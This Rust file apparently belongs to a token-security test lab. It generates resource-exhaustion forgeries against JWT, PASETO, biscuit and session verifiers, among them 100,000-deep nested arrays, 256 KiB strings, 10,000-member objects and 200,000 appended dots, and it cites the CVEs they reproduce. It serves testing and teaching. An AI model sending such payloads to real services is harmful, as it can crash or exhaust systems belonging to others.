//! Tokens that are too long, too deep or of too many parts: work and memory
//! before anything is verified.
//!
//! The flawed assumption: a token is small, since the issuer's are. Whatever is
//! read before the signature is read for everybody. A parser that calls itself
//! for each level of nesting runs out of stack; one that splits at every dot
//! makes a list of as many parts; a header of half a gigabyte becomes several
//! in memory. Bitten: PyPI Authlib (CVE-2025-61920), Go golang-jwt
//! (CVE-2025-30204) and go-jose (CVE-2025-27144).
//!
//! PASETO has the same place in its footer, which is read before the token is
//! verified if it names a key; its specification warns of depth and of the number
//! of keys (Payload-Processing). A biscuit is read as a whole before its
//! signatures are, and the id of a session is as long as it is. So this is tried
//! everywhere, in what the family lets a stranger write.

use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::biscuit::{self, Message};
use crate::card::AttackProfile;
use crate::mint;
use crate::notebook::Notebook;
use crate::scheme::Scheme;
use crate::weakness::Weakness;

pub(super) struct SizeDepthDos;

static PROFILE: AttackProfile = AttackProfile {
    id: "size-depth-dos",
    title: "Token too long or too deep to read",
    assumption: "A token is small and flat, since the issuer's are.",
    class: AttackClass::Format,
    given: &[],
    isolated: true,
    breaks: &[Weakness::UnlimitedDepth, Weakness::FooterUnauthenticated],
    references: &[
        (
            "RFC 8725 §3.10",
            "What is received is not trusted, and a header is received before anything is verified.",
        ),
        (
            "RFC 8259 §9",
            "A JSON parser may limit the size of texts and the depth of nesting.",
        ),
        (
            "PASETO, Payload-Processing",
            "JSON in a footer is bounded in length, depth and number of keys before it is parsed.",
        ),
        (
            "CVE-2025-61920",
            "PyPI Authlib to 1.6.4: a header of 500 MB takes some 4 GB of memory; fixed in 1.6.5.",
        ),
        (
            "CVE-2025-30204",
            "Go golang-jwt before 5.2.2 and 4.5.2 splits at every dot; fixed in these.",
        ),
        (
            "CVE-2025-27144",
            "Go go-jose 4 before 4.0.5 splits at every dot; fixed in 4.0.5.",
        ),
    ],
    lesson: include_str!("../../lessons/size-depth-dos.md"),
};

impl Attack for SizeDepthDos {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        let mut forgeries = Vec::new();
        // The deep one last: it is the one that a process may not survive.
        for (variant, action, json) in [
            (
                "many-members",
                "a member for each number to ten thousand",
                members(),
            ),
            ("long-string", "a string of 256 KiB", string()),
            ("deep-nesting", "an array in an array, 100,000 deep", nesting()),
        ] {
            let place = match view.scheme() {
                Scheme::Jwt(_) | Scheme::Jwe(..) => "the header",
                Scheme::Paseto(..) => "the footer",
                Scheme::Biscuit => "where the root key's number belongs",
                Scheme::Session(_) => "the place of the id",
            };
            notes.variant_step(
                variant,
                format!("Writes {action} into {place} of her own token."),
                format!("{} bytes of JSON", json.len()),
            );
            forgeries.push(Forgery::new(variant, with_json(view, &json)?).to_be_believed());
        }
        let variant = "many-dots";
        notes.variant_step(
            variant,
            "Appends 200,000 dots to her own token: as many parts as a verifier cares to count.",
            "",
        );
        let dots = format!("{}{}", view.sample(), ".".repeat(200_000));
        forgeries.insert(0, Forgery::new(variant, dots).to_be_believed());
        Ok(forgeries)
    }
}

/// Her own token with `json` where a stranger may write and a verifier reads
/// first.
fn with_json(view: &AttackerView<'_>, json: &str) -> Result<String, CannotForge> {
    Ok(match view.scheme() {
        Scheme::Jwt(_) | Scheme::Jwe(..) => {
            let known = serde_json::Value::Object(view.sample_header()).to_string();
            let known = known.trim_end_matches('}');
            let header = format!(r#"{known},"x":{json}}}"#);
            let rest = view.sample().split_once('.').map_or("", |(_, rest)| rest);
            format!("{}.{rest}", mint::part(header))
        }
        Scheme::Paseto(..) => {
            let parts: Vec<&str> = view.sample().split('.').take(3).collect();
            let footer = format!(r#"{{"kid":"x","x":{json}}}"#);
            format!("{}.{}", parts.join("."), mint::part(footer))
        }
        Scheme::Biscuit => {
            let own = Message::of_token(view.sample())
                .ok_or_else(|| CannotForge::Failed("her own biscuit is no protobuf".into()))?;
            own.with(biscuit::ROOT_KEY_ID, biscuit::Value::Bytes(json.into()))
                .to_token()
        }
        Scheme::Session(_) => format!("{}{}", mint::part(json), view.sample()),
    })
}

fn members() -> String {
    let members: Vec<String> = (0..10_000).map(|number| format!(r#""{number}":0"#)).collect();
    format!("{{{}}}", members.join(","))
}

fn string() -> String {
    format!(r#""{}""#, "x".repeat(1 << 18))
}

/// Each level takes some dozens of bytes of a stack of two to eight mebibytes.
fn nesting() -> String {
    let levels = 100_000;
    format!("{}{}", "[".repeat(levels), "]".repeat(levels))
}
